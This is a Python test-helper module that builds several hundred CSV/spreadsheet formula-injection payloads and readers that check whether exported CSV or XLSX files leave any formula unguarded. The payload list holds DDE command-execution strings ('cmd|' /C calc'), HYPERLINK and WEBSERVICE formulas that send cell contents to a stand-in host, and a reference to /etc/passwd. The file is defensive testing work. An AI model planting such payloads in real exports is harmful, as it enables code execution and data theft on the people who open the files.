"""Texts that a spreadsheet might reckon instead of show, and readers that tell whether one did."""

import csv
import io
import itertools
import unicodedata
from pathlib import Path
from typing import Any

import openpyxl

# What comes before: what a spreadsheet, or a person with a wrong separator, passes over.
BEFORE = (
    *("", " ", "　", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\u200e", "\u202e", "\ufeff", "\u2028"),
    *("\u00ad", "\u2060", "\x01", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "'", '"', '"""'),
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
ACTS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.example/?x="&A1,"点这里")',
    'WEBSERVICE("http://a.example/"&A2)',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*2",
    'IMPORTXML("http://a.example","//a")',
    "'file:///etc/passwd'#$passwd.A1",
)
# What breaks out of its cell where the file is opened with another separator, or with none of the quotes.
AROUND = (
    *(
        "路灯;{}",
        "路灯;{};坏了",
        '路灯";{};"坏了',
        "路灯\t{}",
        '路灯"\t{}\t"',
        "路灯|{}",
        "路灯\n{}\n坏了",
        "路灯\r{}",
    ),
    *('路灯","{}","坏了', "路灯'\n{}", "路灯; {}", '路灯;"{}"', "路灯;;{}", "路灯\n\n　{}\n"),
)
PLAIN = (
    "路灯坏了",
    "3-5 栋",
    "a@b.example",
    "1=1",
    "（-3）层",
    "2026-03-02",
    "A;B",
    "第一行\n第二行",
    "—— 完",
)


def payloads() -> list[str]:
    """Some four hundred; the signs and acts go round, so that each meets each."""
    acts, signs = itertools.cycle(ACTS), itertools.cycle(SIGNS)
    begun = [f"{before}{sign}{next(acts)}" for before in BEFORE for sign in SIGNS]
    broken = [around.format(next(signs) + next(acts)) for around in AROUND for _ in range(9)]
    return [*dict.fromkeys([*begun, *broken])]


def begins_a_formula(text: str) -> bool:
    """Apart from the product: the first letter that is neither control, nor blank, nor a quote, in its plain form."""
    for letter in text:
        if unicodedata.category(letter)[0] not in "CZ" and letter not in "\"'":
            return unicodedata.normalize("NFKC", letter) in "=+-@"
    return False


def is_guarded(text: str) -> bool:
    """No formula, or an apostrophe before it, behind nothing but blanks."""
    seen = next(
        (letter for letter in text if unicodedata.category(letter)[0] not in "CZ" and letter != '"'), ""
    )
    return seen == "'" or not begins_a_formula(text)


def formulas_in_xlsx(content: bytes) -> list[str]:
    """Cells that are no text, and texts that would become a formula when somebody edits the cell."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f" or cell.hyperlink is not None:
                found.append(f"{cell.coordinate}: {cell.value!r}")
            elif isinstance(cell.value, str) and begins_a_formula(cell.value) and not cell.quotePrefix:
                found.append(f"{cell.coordinate}: not marked as text: {cell.value!r}")
    return found


def formulas_in_csv(content: bytes) -> list[str]:
    """Read with each separator that somebody may choose, and line by line as if no quotes were known."""
    text, found = content.decode("utf-8-sig"), []
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += [f"by {separator!r}: {cell!r}" for cell in row if not is_guarded(cell)]
    for separator in ";\t|":
        pieces = (piece.strip('"') for line in text.splitlines() for piece in line.split(separator))
        found += [f"bare, by {separator!r}: {piece!r}" for piece in pieces if not is_guarded(piece)]
    return found


def texts_of_xlsx(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def formulas_found(name: str, content: bytes) -> list[str]:
    return formulas_in_csv(content) if Path(name).suffix == ".csv" else formulas_in_xlsx(content)
